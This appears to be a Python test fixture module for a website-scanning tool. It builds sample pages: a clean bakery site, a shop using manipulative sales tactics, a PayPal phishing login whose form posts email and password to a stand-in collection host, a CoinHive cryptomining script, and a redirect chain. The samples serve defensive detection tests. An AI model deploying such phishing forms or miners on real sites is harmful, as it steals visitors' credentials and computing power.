"""Pages written for these tests: a clean site, a pushy shop, a phishing kit, a miner."""

from __future__ import annotations

import time

from veritas.page import Hop, Page, Site, TlsInfo

NOW = time.time()
DAY = 86400.0


def tls_for(host: str, **changes: object) -> TlsInfo:
    values: dict[str, object] = {
        "version": "TLSv1.3",
        "cipher": "TLS_AES_128_GCM_SHA256",
        "subject": {"commonName": host},
        "issuer": {"organizationName": "Let's Encrypt", "commonName": "R11"},
        "not_before": NOW - 60 * DAY,
        "not_after": NOW + 30 * DAY,
        "san": (host,),
        "self_signed": False,
        "hostname_matches": True,
        "verify_error": None,
    }
    values.update(changes)
    return TlsInfo(**values)  # type: ignore[arg-type]


def page(
    url: str,
    body: str = "<html><head><title>t</title></head><body><p>Hello there</p></body></html>",
    headers: tuple[tuple[str, str], ...] = (),
    **extra: object,
) -> Page:
    host = url.split("/")[2]
    values: dict[str, object] = {
        "url": url,
        "final_url": url,
        "status": 200,
        "headers": (("Content-Type", "text/html; charset=utf-8"), *headers),
        "body": body.encode(),
        "truncated": False,
        "tls": tls_for(host) if url.startswith("https:") else None,
        "ip": "203.0.113.10",
    }
    values.update(extra)
    return Page(**values)  # type: ignore[arg-type]


GOOD_HEADERS = (
    (
        "Content-Security-Policy",
        "default-src 'none'; script-src 'self'; style-src 'self'; "
        "img-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'",
    ),
    ("Strict-Transport-Security", "max-age=63072000; includeSubDomains"),
    ("X-Content-Type-Options", "nosniff"),
    ("Referrer-Policy", "strict-origin-when-cross-origin"),
    ("Cross-Origin-Resource-Policy", "same-origin"),
    ("Set-Cookie", "sessionid=abc; Path=/; Secure; HttpOnly; SameSite=Lax"),
)

CLEAN_HTML = """<!doctype html><html><head><title>Riverside Bakery</title>
<link rel="icon" href="/favicon.ico"><script src="/static/menu.js"></script></head>
<body><header><img src="/logo.png" alt="Riverside Bakery logo"></header>
<h1>Fresh bread every morning</h1>
<p>We bake sourdough, rye and seeded loaves in our shop on Mill Lane.</p>
<p>Opening hours: Tuesday to Saturday, 7am to 2pm.</p>
<form action="/contact" method="post"><label for="m">Your message</label>
<textarea id="m" name="message"></textarea><button type="submit">Send</button></form>
<footer>© 2025 Riverside Bakery Ltd</footer></body></html>"""


def clean_site() -> Site:
    return Site((page("https://www.riverside-bakery.example.com/", CLEAN_HTML, GOOD_HEADERS),))


SHOP_HTML = """<html><head><title>MegaDeals Store</title></head><body>
<h1>Wireless Headphones</h1><p>$59.99</p><button>Add to cart</button>
<p class="stock">Hurry! Only 3 left in stock</p>
<div class="timer">Offer ends in <span id="t">02:14:59</span></div>
<div class="popup">Jane from Leeds just bought this 4 minutes ago</div>
<form action="/cart" method="post">
<input type="checkbox" name="protect" checked id="p"><label for="p">Add purchase protection
for $4.99</label>
<button>Checkout</button></form>
<a class="decline" href="/">No thanks, I don't like saving money</a>
<script>var end = localStorage.getItem('deadline') || Date.now() + 9000000;
setInterval(function () { document.getElementById('countdown').textContent = end - Date.now();
}, 1000);</script>
</body></html>"""


def shop_site() -> Site:
    return Site((page("https://megadeals-store.example.com/product/42", SHOP_HTML),))


PHISH_HTML = """<html><head><title>PayPal: Log in to your account</title>
<link rel="icon" href="https://www.paypal.com/favicon.ico"></head><body>
<img class="logo" src="https://www.paypal.com/logo.svg" alt="PayPal">
<p>Your account has been suspended due to unusual activity.
Verify your account within 24 hours or it will be closed.</p>
<form action="https://collect.badhost.example.net/gate.php" method="post">
<input type="email" name="login_email" placeholder="Email">
<input type="password" name="login_password" placeholder="Password">
<button>Log In</button></form></body></html>"""


def phishing_site() -> Site:
    url = "https://paypal.com.account-verify-login.example.top/webscr/signin"
    return Site((page(url, PHISH_HTML),))


MINER_HTML = """<html><head><title>Free Movies</title>
<script>var miner = new CoinHive.Anonymous('site-key', {throttle: 0.3}); miner.start();</script>
</head><body><p>Watch free movies online.</p></body></html>"""


def miner_site() -> Site:
    return Site((page("https://free-movies.example.org/", MINER_HTML),))


def redirect_site() -> Site:
    hops = (
        Hop("http://bit.ly/3xAmPl", 301, "http://click.tracker.example.net/r?id=1"),
        Hop("http://click.tracker.example.net/r?id=1", 302, "https://landing.example.org/"),
        Hop("https://landing.example.org/", 302, "https://landing.example.org/go"),
        Hop("https://landing.example.org/go", 302, "http://final.example.org/offer"),
    )
    final = page("http://final.example.org/offer", redirects=hops)
    return Site((Page(**{**{s: getattr(final, s) for s in Page.__slots__}, "url": hops[0].url}),))
